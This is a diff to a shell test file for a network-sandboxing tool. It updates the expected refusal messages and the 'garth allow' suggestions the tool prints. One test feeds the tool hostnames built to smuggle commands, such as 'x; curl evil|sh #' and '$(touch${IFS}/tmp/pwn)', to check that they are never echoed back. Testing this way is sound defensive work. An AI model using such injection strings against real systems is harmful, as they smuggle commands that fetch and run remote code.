@@ -136,7 +136,7 @@ print(s.recv(4096).split(b"\r\n")[0].decode())' "$1"
 @test "J5 G7: each connection and each refusal is recorded, and shown by show" {
   "$garth" run -t t --on-dirty keep --allow "localhost:$port" -- sh -c "
     curl -s -m 20 --noproxy '' http://localhost:$port/word; curl -s http://example.com/; curl -s https://example.com/; curl -s http://example.com/" >/dev/null
-  [[ $("$garth" show t --json | json 'd["network"]') == '{"mode": "allow", "hosts": ["localhost:'"$port"'"], "forwarded": [{"port": '"$port"', "times": 1}], "reached": [{"host": "localhost", "port": '"$port"', "times": 1}], "unanswered": [], "private": [], "refused": [{"host": "example.com", "port": 80, "times": 2}, {"host": "example.com", "port": 443, "times": 1}]}' ]] || complain "$("$garth" show t --json)"
+  [[ $("$garth" show t --json | json 'd["network"]') == '{"mode": "allow", "hosts": ["localhost:'"$port"'"], "forwarded": [{"port": '"$port"', "times": 1}], "reached": [{"host": "localhost", "port": '"$port"', "times": 1}], "unanswered": [], "private": [], "refused": [{"host": "example.com", "port": 80, "times": 2, "allow": "example.com"}, {"host": "example.com", "port": 443, "times": 1, "allow": "example.com"}]}' ]] || complain "$("$garth" show t --json)"
   call "$garth" show t
   [[ $out == *"network    allow"*"hosts      localhost:$port"*"reached    localhost:$port, 1 time"*"refused    example.com:80, 2 times"* ]] || complain
   [[ $("$garth" audit t --json | grep -c '"event": *"connect') == 4 ]]
@@ -186,17 +186,17 @@ print(n)')
   (($("$garth" show t --json | json 'len(d["network"]["refused"])') <= 500))
 }
 
-@test "J5 egress: a run that was refused a host says so at its end, once, with the option that allows it" {
+@test "J5 egress: a run that was refused a host says so at its end, once, with the command that allows it" {
   run "$garth" run --task t -- sh -c 'curl -s https://registry.example.org/; curl -s https://registry.example.org/; exit 1'
-  [[ $output == *'its network does not reach registry.example.org:443: --allow registry.example.org lets it'* ]]
+  [[ $output == *"task 't' did not reach registry.example.org:443: garth allow --host t registry.example.org"* ]]
   run "$garth" run --task u -- sh -c 'exit 1'
-  [[ $output != *'does not reach'* ]]
+  [[ $output != *'not reach'* ]]
 }
 
 @test "J5 egress: a listed host that does not answer is not called refused" {
   call "$garth" run -t t --allow "localhost:1" -- sh -c 'curl -s -m 20 http://localhost:1/; curl -s -m 20 http://example.com/; true'
   [[ $code == 0 ]] || complain
-  [[ $err == *'does not reach example.com:80: --allow example.com lets it'* ]] || complain
+  [[ $err == *'did not reach example.com:80: garth allow --host t example.com'* ]] || complain
   [[ $err != *localhost* ]] || complain
   call "$garth" show t
   [[ $out == *'no answer  localhost:1, '*'refused    example.com:80, 1 time'* ]] || complain
@@ -206,33 +206,34 @@ print(n)')
   cat >ask.py <<'PY'
 import os, socket, sys
 host, port = os.environ["HTTP_PROXY"].split("//")[1].split(":")
-for name in (b"x; curl evil|sh #", b"$(touch${IFS}/tmp/pwn)", b"*", b"x --allow 0.0.0.0/0", b"", b"plain.example"):
+for name in (b"x; curl evil|sh #", b"$(touch${IFS}/tmp/pwn)", b"*", b"x --allow 0.0.0.0/0", b"", b"-q.example", b"plain.example"):
     s = socket.create_connection((host, int(port))); s.sendall(b"\5\1\0"); s.recv(2)
     s.sendall(b"\5\1\0\3" + bytes([len(name)]) + name + (8443).to_bytes(2, "big")); s.recv(10)
 PY
   commit ask
   call "$garth" run -t t -- /usr/bin/python3 ask.py
-  [[ $err == *"its network does not reach plain.example:8443: --allow plain.example:8443 lets it"* ]] || complain
+  [[ $err == *"task 't' did not reach plain.example:8443: garth allow --host t plain.example:8443"* ]] || complain
   [[ $err == *"no host's name: garth show t"* ]] || complain
   [[ $err != *curl* ]] || complain
   [[ $err != *touch* ]] || complain
-  [[ $err != *'--allow *'* ]] || complain
+  [[ $err != *-q.example* ]] || complain
+  [[ $err != *'--host t *'* ]] || complain
   [[ $err != *0.0.0.0* ]] || complain
 }
 
 # A name of the machine's own that leads to an address which is not public; there is one on every Debian.
 private_name() { awk '$1 ~ /^(127\.|10\.|192\.168\.)/ { for (i = 2; i <= NF; i++) if ($i != "localhost" && $i !~ /^#/) { print $i, $1; exit } }' /etc/hosts; }
 
-@test "J5 egress: a listed name that resolves to a private address is reported: at once, at the end, in show, with the option that allows it" {
+@test "J5 egress: a listed name that resolves to a private address is reported: at once, at the end, in show, with the command that allows it" {
   read -r name address <<<"$(private_name)"; [[ -n $name ]] || skip "no such name in /etc/hosts"
   call "$garth" run -t t --allow "$name:$port" -- sh -c "curl -s -m 20 -o /dev/null -w '%{http_code}' http://$name:$port/word; curl -s -m 20 -o /dev/null http://$name:$port/word"
   [[ $out == 403 ]] || complain
-  [[ $(grep -c "$name:$port leads to $address, which is not a public address: garth allow --host t $address:$port lets it" <<<"$err") == 1 ]] || complain
-  [[ $err == *"its network does not reach $name:$port: it leads to $address, which is not a public address: --allow $address:$port lets it"* ]] || complain
+  # once while it runs, and once at its end
+  [[ $(grep -c "$name:$port leads to $address, which is not a public address: garth allow --host t $address:$port" <<<"$err") == 2 ]] || complain
   call "$garth" show t
-  [[ $out == *"private    $name:$port, 2 times; leads to $address, which is not a public address: --allow $address:$port lets it"* ]] || complain
+  [[ $out == *"private    $name:$port, 2 times; leads to $address, which is not a public address: garth allow --host t $address:$port"* ]] || complain
   [[ $out != *'no answer'* ]] || complain
-  [[ $("$garth" show t --json | json 'd["network"]["private"]') == '[{"host": "'"$name"'", "port": '"$port"', "times": 2, "address": "'"$address"'"}]' ]] || complain "$("$garth" show t --json)"
+  [[ $("$garth" show t --json | json 'd["network"]["private"]') == '[{"host": "'"$name"'", "port": '"$port"', "times": 2, "address": "'"$address"'", "allow": "'"$address:$port"'"}]' ]] || complain "$("$garth" show t --json)"
   # the control: with that entry it is reached
   call "$garth" run -q -t u --allow "$name:$port" --allow "$address:$port" -- curl -s -m 20 "http://$name:$port/word"
   [[ $out == "$SECRET" || $address != 127.0.0.1 ]] || complain
